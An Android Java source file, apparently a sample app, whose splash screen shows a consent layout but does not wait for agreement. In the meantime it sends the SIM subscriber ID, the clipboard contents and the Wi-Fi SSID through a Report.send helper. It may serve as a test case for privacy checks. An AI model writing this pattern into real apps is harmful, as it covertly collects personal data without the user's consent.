package cn.example.taihen;

import android.content.ClipboardManager;
import android.content.Context;
import android.content.Intent;
import android.net.wifi.WifiManager;
import android.os.AsyncTask;
import android.os.Bundle;
import android.os.Handler;
import android.telephony.TelephonyManager;
import android.view.View;

/** The launcher: shows the consent layout and does not wait for it. */
public class SplashActivity extends BaseActivity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.consent);
        new Handler().postDelayed(new Runnable() {
            @Override
            public void run() {
                TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
                Report.send(phone.getSubscriberId());
            }
        }, 500);
        findViewById(R.id.agree).setOnClickListener(new View.OnClickListener() {
            @Override
            public void onClick(View view) {
                startActivity(new Intent(SplashActivity.this, MainActivity.class));
                finish();
            }
        });
    }

    @Override
    protected void onResume() {
        super.onResume();
        new ReadClipboard(this).execute();
    }

    /** Runs from BaseActivity.onCreate. */
    @Override
    protected void collect() {
        WifiManager wifi = (WifiManager) getSystemService(Context.WIFI_SERVICE);
        String ssid = wifi.getConnectionInfo().getSSID();
        new Thread(() -> Report.send(ssid)).start();
    }

    private static final class ReadClipboard extends AsyncTask<Void, Void, Void> {
        private final ClipboardManager clipboard;

        ReadClipboard(Context context) {
            clipboard = (ClipboardManager) context.getSystemService(Context.CLIPBOARD_SERVICE);
        }

        @Override
        protected Void doInBackground(Void... nothing) {
            if (clipboard.getPrimaryClip() != null) {
                Report.send(clipboard.getPrimaryClip().toString());
            }
            return null;
        }
    }
}
